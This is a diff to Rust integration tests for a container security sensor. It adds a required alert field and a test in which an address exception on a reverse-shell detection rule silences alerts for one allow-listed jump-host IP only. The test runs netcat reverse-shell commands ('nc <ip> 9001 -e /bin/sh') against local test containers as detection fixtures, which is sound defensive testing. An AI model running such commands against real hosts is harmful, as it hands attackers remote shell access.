@@ -41,7 +41,15 @@ fn assert_alert_fields(a: &Value, rule: &str, cid: &str) {
     );
     assert_eq!(a["container"]["id"], cid);
     assert_eq!(a["container"]["runtime"], "docker");
-    for key in ["id", "time", "rule_name", "severity", "summary", "response"] {
+    for key in [
+        "id",
+        "time",
+        "detected_time",
+        "rule_name",
+        "severity",
+        "summary",
+        "response",
+    ] {
         assert!(!a[key].is_null(), "alert without {key}: {a}");
     }
     assert!(!a["techniques"].as_array().unwrap().is_empty());
@@ -186,6 +194,46 @@ fn crs009_reverse_shell_over_netcat() {
     );
     docker(&["rm", "-f", &echo.id]);
     sensor.assert_no_alert("CRS-009", &echo.id, SETTLE);
+}
+
+/// The ADS's benign case "a shell to an administrator's jump host": an `addresses` exception
+/// (a /32 CIDR block) silences reverse shells to that peer and no other.
+#[test]
+fn crs009_an_address_exception_silences_shells_to_that_peer_only() {
+    let img = image();
+    let listener = || {
+        let script = "(echo id; sleep 1) | nc -l -p 9001";
+        docker(&["run", "-d", "--rm", &img, "sh", "-c", script])
+    };
+    let (jump, other) = (listener(), listener());
+    let _cleanup = Containers(vec![jump.clone(), other.clone()]);
+    let (jump_ip, other_ip) = (container_ip(&jump), container_ip(&other));
+    let rules = scratch_dir("crs009-allow-rules");
+    let exception = format!(
+        "exceptions:\n  - name: jump-host\n    reason: the administrators' jump host\n    addresses: [\"{jump_ip}/32\"]\n"
+    );
+    let rule = shipped_rule("009-reverse-shell.yaml");
+    assert!(!rule.contains("exceptions:"), "update this test");
+    std::fs::write(rules.join("009.yaml"), format!("{rule}{exception}")).unwrap();
+    let sensor = Sensor::start_with("crs009-allow", &["--rules", rules.to_str().unwrap()]);
+
+    let to_other = run_rm(&[], &["nc", &other_ip, "9001", "-e", "/bin/sh"]);
+    let to_jump = run_rm(&[], &["nc", &jump_ip, "9001", "-e", "/bin/sh"]);
+    let a = sensor.expect_alert("CRS-009", &to_other);
+    assert_eq!(
+        ev::addr(&a["events"][0]["exec"]["stdio_peer"]),
+        other_ip,
+        "{a}"
+    );
+    sensor.assert_no_alert("CRS-009", &to_jump, SETTLE);
+    // The shell to the jump host ran and was seen with its peer: the exception, not a miss,
+    // kept it quiet.
+    sensor.expect("the allow-listed shell's exec", |e| {
+        ev::kind(e) == "exec"
+            && ev::container_id(e) == to_jump
+            && ev::addr(&e["exec"]["stdio_peer"]) == jump_ip
+    });
+    let _ = std::fs::remove_dir_all(&rules);
 }
 
 #[test]
